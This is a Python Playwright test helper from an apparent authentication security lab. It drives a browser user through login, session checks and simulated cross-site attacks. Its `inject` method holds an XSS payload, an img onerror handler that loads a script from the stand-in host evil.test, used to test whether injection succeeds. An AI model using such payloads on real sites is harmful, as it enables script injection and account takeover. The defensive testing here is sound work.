"""A story: one user in a fresh browser, from the log-in through the page's own form to the result of an attack."""

from __future__ import annotations

import json
import urllib.parse
from typing import Any, Final

from playwright.sync_api import BrowserContext, Page, Request

from authlab.browser.drive.asking import Asking, waited
from authlab.browser.sites import APP, EVIL

WITHIN_MS: Final = 10_000
_KEPT_REQUESTS: Final = 200
_SHORT: Final = 12


class Story:
    """A context with its own page and user. Nobody else fills this user's cart."""

    def __init__(self, context: BrowserContext, asking: Asking, user: str, password: str) -> None:
        self.context = context
        self.asking = asking
        self.user = user
        self.trace: list[dict[str, Any]] = []
        self.disturbed = False
        """Whether Chromium dropped a request because a network interface of the machine appeared or disappeared
        (containers start beside us). Such a story proves nothing, whatever its answers."""
        self.begun = asking.last()
        self._attacked = False
        self.password = password
        context.set_default_timeout(WITHIN_MS)
        context.on("request", self._note)
        context.on("requestfailed", self._look_for_disturbance)
        self.page: Page = context.new_page()

    def open(self, place: str, query: str = "", site: str = APP) -> None:
        """The page of a place, in a new tab if this one was used for an attack."""
        if self._attacked:
            self.page, self._attacked = self.context.new_page(), False
        self.page.goto(f"https://{site}/storage/{place}{query}")
        self.page.get_by_test_id("log-in").wait_for()

    def log_in(self) -> None:
        """Log in by the page's form. Returns when the API has answered."""
        self.page.get_by_test_id("user").fill(self.user)
        self.page.get_by_test_id("password").fill(self.password)
        with self.page.expect_response(lambda a: "/login?" in a.url and a.request.method == "POST") as waiting:
            self.press("log-in")
        if waiting.value.status != 200:
            raise RuntimeError(f"the log-in of {self.user} got status {waiting.value.status}")

    def press(self, control: str) -> None:
        """Press one of the page's controls and wait until its call has been counted."""
        before = self.calls()
        self.page.get_by_test_id(control).click()
        self.until(f"Number(document.documentElement.dataset.calls || 0) > {before}")

    def reload(self) -> None:
        """Reload the page. Returns when it can be used again."""
        self.page.reload()
        self.page.get_by_test_id("who").wait_for()

    def came(self, holds: str, within_s: float) -> bool:
        """Whether an expression becomes true in the page in time. (Playwright's own wait needs `eval`, which a content
        security policy forbids; DevTools do not need it.)"""
        return bool(waited(lambda: self.page.evaluate(holds), within_s))

    def until(self, holds: str) -> None:
        """Wait until an expression is true in the page. Raises `RuntimeError` if it doesn't become true."""
        if not self.came(holds, WITHIN_MS / 1000):
            raise RuntimeError(f"{self.page.url.partition('?')[0]}: this did not become true: {holds}")

    def calls(self) -> int:
        """How many calls the page has counted."""
        return int(self.page.evaluate("Number(document.documentElement.dataset.calls || 0)"))

    def knows_me(self) -> bool:
        """Whether the API still answers GET /me with this user, according to its record after the page's request.

        Raises `RuntimeError` if the page's request never reached the API.
        """
        since = self.asking.last()
        self.page.get_by_test_id("who").click()
        seen = self.asking.arrived(since, lambda e: e["path"].endswith("/me") and e["method"] == "GET", 10.0)
        if seen is None:
            raise RuntimeError("the page sent GET /me, but the API received no such request")
        return bool(seen["status"] == 200 and seen["user"] == self.user)

    def says_me(self) -> bool:
        """Whether the page shows this user's name as the answer to GET /me."""
        self.press("who")
        return self.user in (self.page.get_by_test_id("who-answer").text_content() or "")

    def inject(self, script: str) -> bool:
        """Leave a note with an event handler that loads `script` from evil.test. Returns whether the browser fetched
        it."""
        address = f"https://{EVIL}/{script}"
        payload = (
            '<img alt="" src="data:," onerror="const s = document.createElement(\'script\'); '
            f"s.src = '{address}'; document.head.append(s)\">"
        )
        self.page.evaluate(
            "note => { const url = new URL(location.href); url.searchParams.set('note', note);"
            " history.pushState({}, '', url); dispatchEvent(new PopStateEvent('popstate')); }",
            payload,
        )
        return self.came(f"performance.getEntriesByName({json.dumps(address)}).length > 0", 2.0)

    def attack(self, page: str, target: str, item: str, site: str = EVIL, **more: str) -> None:
        """Visit an attack page of another site in a new tab, which becomes the story's page."""
        asked = urllib.parse.urlencode({"target": target, "item": item, **more})
        self.page, self._attacked = self.context.new_page(), True
        self.page.goto(f"https://{site}/{page}?{asked}", wait_until="commit")

    def outcome(self) -> str:
        """What the attack page shows when it has finished."""
        self.page.wait_for_selector("html[data-outcome=readable], html[data-outcome=unreadable]", state="attached")
        return self.page.locator("#outcome").text_content() or ""

    def run(self, script: str, argument: object = None) -> Any:
        """Run a script in the page as it is."""
        return self.page.evaluate(script, argument)

    def close(self) -> None:
        """End it."""
        self.context.close()

    def _note(self, request: Request) -> None:
        if len(self.trace) < _KEPT_REQUESTS:
            self.trace.append({"method": request.method, "url": _plain(request.url), "type": request.resource_type})

    def _look_for_disturbance(self, request: Request) -> None:
        if "ERR_NETWORK_CHANGED" in (request.failure or ""):
            self.disturbed = True


def _plain(url: str) -> str:
    """An address without its long or secret parts."""
    parts = urllib.parse.urlsplit(url)
    pairs = urllib.parse.parse_qsl(parts.query)
    kept = [(name, value if len(value) <= _SHORT else value[:_SHORT] + "…") for name, value in pairs]
    return urllib.parse.urlunsplit(parts._replace(query=urllib.parse.urlencode(kept)))
